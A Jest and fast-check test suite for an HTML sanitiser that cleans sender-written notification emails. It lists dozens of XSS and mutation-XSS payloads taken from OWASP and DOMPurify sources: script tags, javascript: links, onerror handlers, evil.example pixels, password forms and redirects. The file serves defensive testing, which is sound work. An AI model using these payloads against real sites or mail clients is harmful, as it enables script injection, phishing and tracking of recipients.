import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { sanitise, textOfHtml } from '../../src/notifications/templates/html.ts';

describe('HTML that a sender wrote', () => {
  test('keeps what letters are made of', () => {
    const letter =
      '<h1>Hi</h1><p>A <b>bold</b> &amp; <em>fine</em> <a href="https://a.example/?x=1&amp;y=2">link</a></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table>';
    const safe = sanitise(letter);
    for (const part of [
      '<h1>Hi</h1>',
      '<b>bold</b> &amp; <em>fine</em>',
      'href="https://a.example/?x=1&amp;y=2"',
      '<li>one</li>',
      '<td colspan="2">x</td>',
    ])
      expect(safe).toContain(part);
    expect(sanitise('<img src="https://a.example/x.png" alt="A">')).toBe(
      '<img src="https://a.example/x.png" alt="A" />',
    );
  });

  // OWASP's filter evasion cheat sheet, DOMPurify's list of mutations, and relatives.
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src="javascript:alert(1)">',
    '<img src="http://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="https://a.example/x.png" onload="alert(1)">',
    '<img srcset="https://evil.example/x 1x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/path">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a style="position:fixed;inset:0" href="https://a.example">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "https://evil.example/x.css";</style>x',
    '<link rel="stylesheet" href="https://evil.example/x.css">x',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">x',
    '<base href="https://evil.example/">x',
    '<iframe src="https://evil.example"></iframe>x',
    '<object data="x"></object><embed src="x">x',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>x',
    '<svg><script>alert(1)</script></svg>x',
    '<svg onload=alert(1)>x',
    '<svg><p><style><img src="</style><img src=x onerror=alert(1)//">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<!--><img src=x onerror=alert(1)>-->x',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x',
    '<![CDATA[<script>alert(1)</script>]]>x',
    '<?xml version="1.0"?><x/>x',
    '<textarea><img src=x onerror=alert(1)></textarea>x',
    '<title><img src=x onerror=alert(1)></title>x',
    '<xmp><img src=x onerror=alert(1)></xmp>x',
    '<template><img src=x onerror=alert(1)></template>x',
    '<p/onmouseover=alert(1)>x',
    '<b onclick=alert(1) onclick="x">x</b>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>x',
    '<a href="https://a.example" ping="https://evil.example" target="_self" onfocus=alert(1) autofocus>x</a>',
    '</td></tr></table><script>alert(1)</script><table>x',
  ])('loses what is harmful: %s', (html) => expectHarmless(sanitise(html)));

  test('is harmless, whatever it was, and what is text in it stays text when it is read again', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        '&',
        ' ',
        '<!--',
        '-->',
        '<p>',
        '</p>',
        '<svg>',
        '<math>',
        '<style>',
        '</style>',
        '<table>',
        '<td>',
      ],
      ...[
        '<a href=',
        '<img src=',
        'javascript:',
        'https://a.example',
        'onerror=x',
        'script',
        '&#106;',
        '\t',
        '\u0000',
        '<![CDATA[',
        ']]>',
        '<noscript>',
        '<xmp>',
      ],
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof({ weight: 4, arbitrary: pieces }, { weight: 1, arbitrary: fc.string() }), { maxLength: 25 }),
        (some) => {
          const once = sanitise(some.join(''));
          expectHarmless(once);
          const again = sanitise(once);
          expectHarmless(again);
          expect(letters(again)).toBe(letters(once));
        },
      ),
      { numRuns: 1000 },
    );
  });

  test('nested deeper than any letter comes out, and is cut', () => {
    const safe = sanitise(`${'<div>'.repeat(5_000)}x${'</div>'.repeat(5_000)}<p>y</p>`);
    expect(safe.match(/<div>/g)?.length).toBeLessThanOrEqual(50);
  });

  test.each([
    ['<td>x</td>', '<span>x</span>'],
    ['x</td></tr></table>y', 'xy'],
    ['<table><tr><td>a</td></tr></table><tr><td>b', '<table><tr><td>a</td></tr></table><span><span>b</span></span>'],
    ['<div><tbody><td colspan="2">x', '<div><span><span>x</span></span></div>'],
  ])('stays in its place in the layout: %s', (html, safe) => expect(sanitise(html)).toBe(safe));

  test('without text or picture is nothing', () => {
    for (const html of ['<p></p>', '<script>x</script>', '<p> </p><br>', '<style>x</style>'])
      expect(sanitise(html)).toBe('');
  });
});

/** The text without its gaps: a browser may close a paragraph earlier than it was. */
const letters = (html: string) => html.replace(/<[^>]*>|\s/g, '');

const ALLOWED_ATTRIBUTES = /^(href|title|target|rel|src|alt|width|height|colspan|rowspan|align|start|dir|lang)$/;
const ALLOWED_TAGS =
  /^(p|br|hr|h[1-6]|blockquote|pre|div|span|a|b|strong|i|em|u|s|small|sub|sup|code|img|ul|ol|li|table|thead|tbody|tfoot|tr|th|td|caption)$/;

/** Read strictly: every `<` begins a tag that is allowed, all of whose attributes are, quoted, with an address that is harmless. */
function expectHarmless(html: string): void {
  const tag = /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g;
  expect(html.replace(tag, '')).not.toMatch(/[<>]/);
  for (const [, name = '', attributes = ''] of html.matchAll(tag)) {
    expect(name).toMatch(ALLOWED_TAGS);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      expect(attribute).toMatch(ALLOWED_ATTRIBUTES);
      if (attribute === 'src') expect(value).toMatch(/^https:\/\//i);
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
    }
  }
}

describe('its plain text', () => {
  test.each([
    ['<p>One</p><p>Two<br>three</p>', 'One\n\nTwo\nthree'],
    ['<ul><li>a</li><li>b</li></ul>c', '- a\n- b\nc'],
    ['<a href="https://a.example/">https://a.example/</a>', 'https://a.example/'],
    ['<a href="https://a.example/?a=1&amp;b=2">here</a>', 'here (https://a.example/?a=1&b=2)'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a\tb\nc'],
    ['<p>a  &lt;b&gt;\n &amp;lt; &quot;c&quot;</p>', 'a <b> &lt; "c"'],
    ['<img src="https://a.example/x.png" alt="A map" />', 'A map'],
  ])('of %p is %p', (html, text) => expect(textOfHtml(sanitise(html))).toBe(text));
});
